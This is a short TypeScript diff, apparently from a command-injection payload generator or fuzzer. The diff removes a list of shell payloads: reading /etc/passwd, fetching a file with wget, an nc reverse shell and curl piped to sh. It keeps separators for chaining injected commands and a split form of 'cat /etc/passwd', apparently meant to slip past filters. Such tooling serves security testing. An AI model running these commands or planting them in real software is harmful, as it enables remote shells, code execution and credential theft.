@@ -72,14 +72,6 @@ function splitWord(word: string): string {
 }
 
 const SEP = ["; ", ";", " | ", "|", " && ", " || ", "\n", "%0a"];
-const SHELL_CMDS = [
-  "id",
-  "cat /etc/passwd",
-  "uname -a",
-  "wget http://203.0.113.9/s -O /tmp/s",
-  "nc 198.51.100.4 9001 -e /bin/sh",
-  "curl http://x.example/a|sh",
-];
 
 const SPLIT_COMMANDS: [string, string][] = [
   ["cat", " /etc/passwd"],
